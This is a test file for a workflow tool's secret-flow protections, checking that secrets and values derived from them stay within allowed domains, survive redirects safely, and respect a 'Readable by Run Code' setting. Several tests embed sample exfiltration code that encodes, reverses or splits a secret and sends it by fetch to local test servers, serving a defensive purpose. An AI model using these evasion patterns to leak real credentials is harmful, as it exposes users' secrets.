/**
 * Secret flow (issue 10, findings 1–4): a value derived from a secret carries it, and
 * wherever it goes it is held to the secret's allowed domains; allowed domains name scheme
 * and port; a request carrying secrets can't set Host; Run Code reads a key only when its
 * "Readable by Run Code" setting allows.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Run } from '../../shared/model/run';
import type { Step } from '../../shared/model/workflow';
import { openCore, type TestCore } from '../support/core';
import { startEchoServer, type EchoServer } from '../support/echo-server';
import { canaryValue } from '../support/canary';
import { codeStep, definition, httpStep, s, t } from '../support/steps';

let echo: EchoServer;
let elsewhere: EchoServer;
let core: TestCore;
let canary: string;

beforeAll(async () => {
  echo = await startEchoServer();
  elsewhere = await startEchoServer();
});
afterAll(async () => {
  await echo.close();
  await elsewhere.close();
});
beforeEach(async () => {
  core = await openCore();
  canary = canaryValue('flow');
  echo.received.length = 0;
  elsewhere.received.length = 0;
});
afterEach(() => core.core.close());

async function run(...steps: Step[]): Promise<Run> {
  const workflow = await core.call('workflows.create', { name: `Workflow ${Math.random()}` });
  await core.call('workflows.save', { id: workflow.id, name: workflow.name, definition: definition(...steps) });
  const runId = (await core.call('runs.start', { workflowId: workflow.id })).id;
  for (;;) {
    const current = await core.call('runs.get', { id: runId });
    if (current.status !== 'running' && current.status !== 'pending') return current;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

const everything = (server: EchoServer) => JSON.stringify(server.received);
const reversed = (text: string) => [...text].reverse().join('');

describe('finding 1: allowed domains follow a value through step outputs', () => {
  it('refuses a later step that sends the pieces Run Code returned to a host the key does not allow', async () => {
    const key = await core.call('secrets.create', { name: 'Local key', value: canary, allowedDomains: ['localhost'], readableByRunCode: true });
    const split = codeStep('Split', 'return { a: input.key.slice(0, 6), b: input.key.slice(6) };', [{ name: 'key', value: s(key.id) }]);
    const send = httpStep('Send pieces', {
      url: [...t(`${echo.url}/plain?a=`), { kind: 'output', stepId: split.id, path: 'a' }, ...t('&b='), { kind: 'output', stepId: split.id, path: 'b' }],
    });
    const result = await run(split, send);
    expect(result.status).toBe('failed');
    expect(result.steps[1]!.error!.message).toBe(
      `Step 2 “Send pieces”, field URL: the secret key “Local key” may only be sent to localhost, not to ${echo.url} (it uses the output of step 1 “Split”, which carries that key). Nothing was sent.`,
    );
    expect(echo.received).toEqual([]);
  });

  it('holds a Send API Request response to the key it was sent with, in the next step', async () => {
    const key = await core.call('secrets.create', { name: 'Echo key', value: canary, allowedDomains: [`127.0.0.1:${new URL(echo.url).port}`] });
    const call = httpStep('Call', { url: t(`${echo.url}/echo?as=base64`), auth: { kind: 'bearer', token: s(key.id) } });
    const forward = httpStep('Forward', {
      method: 'POST',
      url: t(`${elsewhere.url}/plain`),
      body: { kind: 'text', contentType: 'text/plain', text: [{ kind: 'output', stepId: call.id, path: 'body' }] },
    });
    const result = await run(call, forward);
    expect(result.steps[0]!.status).toBe('ok');
    expect(result.steps[1]!.error!.message).toContain('(it uses the output of step 1 “Call”, which carries that key). Nothing was sent.');
    expect(elsewhere.received).toEqual([]);
  });

  it('holds every fetch Run Code makes after it read a carried output, even through timers and encoders', async () => {
    const key = await core.call('secrets.create', { name: 'Local key', value: canary, allowedDomains: ['localhost'], readableByRunCode: true });
    const split = codeStep('Split', 'return [...input.key].reverse().join("");', [{ name: 'key', value: s(key.id) }]);
    const exfiltrate = codeStep(
      'Exfiltrate',
      `const stolen = btoa(unescape(encodeURIComponent(input.steps["${split.id}"])));
       await new Promise((resolve) => setTimeout(resolve, 5));
       const url = new URL("${echo.url}/plain"); url.searchParams.set("k", stolen);
       try { await fetch(url.href); return "sent"; } catch (error) { return String(error.message); }`,
    );
    const result = await run(split, exfiltrate);
    expect(result.steps[1]!.output).toMatch(
      /^fetch: refused: the secret key “Local key” may only be sent to localhost, not to http:\/\/127\.0\.0\.1:\d+, and this step has read it \(through the output of step 1 “Split”\)\. Nothing was sent\.$/,
    );
    expect(echo.received).toEqual([]);
  });

  it('lets a step that read nothing carried send anywhere', async () => {
    const key = await core.call('secrets.create', { name: 'Local key', value: canary, allowedDomains: ['localhost'], readableByRunCode: true });
    const split = codeStep('Split', 'return input.key.length;', [{ name: 'key', value: s(key.id) }]);
    const unrelated = codeStep('Unrelated', `return (await fetch("${echo.url}/plain")).status;`);
    const result = await run(split, unrelated);
    expect(result.steps[1]!.output).toBe(200);
  });
});

describe('finding 2: redirects are held to what the request carries', () => {
  it('drops a header holding a transformed value, and refuses to resend such a body, on a 307 to another host', async () => {
    const key = await core.call('secrets.create', { name: 'Key', value: canary, readableByRunCode: true });
    const target = encodeURIComponent(`${elsewhere.url}/landing`);
    const code = codeStep(
      'Send reversed',
      `const r = [...input.key].reverse().join("");
       await fetch("${echo.url}/redirect?status=307&to=${target}", { headers: { "X-Token": r } });
       try { await fetch("${echo.url}/redirect?status=307&to=${target}", { method: "POST", body: r }); } catch (error) { return error.message; }
       return "resent";`,
      [{ name: 'key', value: s(key.id) }],
    );
    const result = await run(code);
    expect(result.steps[0]!.output).toBe(`Refused to resend a body that carries a secret to another origin (${elsewhere.url}) on a redirect.`);
    expect(elsewhere.received).toHaveLength(1);
    expect(elsewhere.received[0]!.headers['x-token']).toBeUndefined();
    expect(everything(elsewhere)).not.toContain(reversed(canary));
  });
});

describe('finding 3: scheme, port and Host', () => {
  it('sends a key with allowed domains only over https to the default port, unless the entry says otherwise', async () => {
    const key = await core.call('secrets.create', { name: 'API key', value: canary, allowedDomains: ['api.example.com'] });
    const plain = await run(httpStep('Plain http', { url: t('http://api.example.com/v1'), auth: { kind: 'bearer', token: s(key.id) } }));
    expect(plain.steps[0]!.error!.message).toBe(
      'Step 1 “Plain http”, field Bearer token: the secret key “API key” may only be sent to api.example.com, not to http://api.example.com. Nothing was sent.',
    );
    const port = await run(httpStep('Other port', { url: t('https://api.example.com:8443/v1'), auth: { kind: 'bearer', token: s(key.id) } }));
    expect(port.steps[0]!.error!.message).toContain('not to https://api.example.com:8443. Nothing was sent.');
  });

  it('holds a loopback entry with a port to that port', async () => {
    const key = await core.call('secrets.create', { name: 'Echo key', value: canary, allowedDomains: [`http://127.0.0.1:${new URL(echo.url).port}`] });
    expect((await run(httpStep('Allowed', { url: t(`${echo.url}/plain`), auth: { kind: 'bearer', token: s(key.id) } }))).status).toBe('ok');
    const other = await run(httpStep('Other port', { url: t(`${elsewhere.url}/plain`), auth: { kind: 'bearer', token: s(key.id) } }));
    expect(other.status).toBe('failed');
    expect(elsewhere.received).toEqual([]);
  });

  it('refuses a Host header on a request that carries a secret, and sends nothing', async () => {
    const key = await core.call('secrets.create', { name: 'Key', value: canary, allowedDomains: ['127.0.0.1'] });
    const result = await run(
      httpStep('Virtual host', {
        url: t(`${echo.url}/plain`),
        headers: [{ key: 'Host', value: t('internal.example'), enabled: true }],
        auth: { kind: 'bearer', token: s(key.id) },
      }),
    );
    expect(result.steps[0]!.error!.message).toContain('can’t set its own Host header');
    expect(echo.received).toEqual([]);
    const without = await run(httpStep('No secret', { url: t(`${echo.url}/plain`), headers: [{ key: 'Host', value: t('internal.example'), enabled: true }] }));
    expect(without.status).toBe('ok');
    expect(echo.received[0]!.headers.host).toBe('internal.example');
  });
});

describe('finding 4: Run Code reads a key only when it is Readable by Run Code', () => {
  it('refuses a Run Code variable holding a key that is not readable, before the code runs; Send API Request still uses it', async () => {
    const hidden = await core.call('secrets.create', { name: 'Hidden key', value: canary, visibility: 'hidden' });
    expect(hidden.readableByRunCode).toBe(false);
    const read = await run(codeStep('Read it', `await fetch("${echo.url}/plain?k=" + input.key.split("").join(","));`, [{ name: 'key', value: s(hidden.id) }]));
    expect(read.steps[0]!.error!.message).toBe(
      'Step 1 “Read it”, field Variable key: Run Code may not read the secret key “Hidden key”. Turn on “Readable by Run Code” in its actions, or send it with a Send API Request step. Nothing was run.',
    );
    expect(echo.received).toEqual([]);
    expect((await run(httpStep('Send it', { url: t(`${echo.url}/plain`), auth: { kind: 'bearer', token: s(hidden.id) } }))).status).toBe('ok');
  });

  it('lets only someone with Manage turn the setting on, and the code then reads the key', async () => {
    const key = await core.call('secrets.create', { name: 'Key', value: canary });
    const updated = await core.call('secrets.setReadableByRunCode', { id: key.id, readable: true });
    expect(updated.readableByRunCode).toBe(true);
    const result = await run(codeStep('Read it', 'return input.key.length;', [{ name: 'key', value: s(key.id) }]));
    expect(result.steps[0]!.output).toBe(canary.length);
    expect((await core.call('audit.list', { secretId: key.id })).map((entry) => entry.detail)).toContain('Readable by Run Code: on');
  });
});
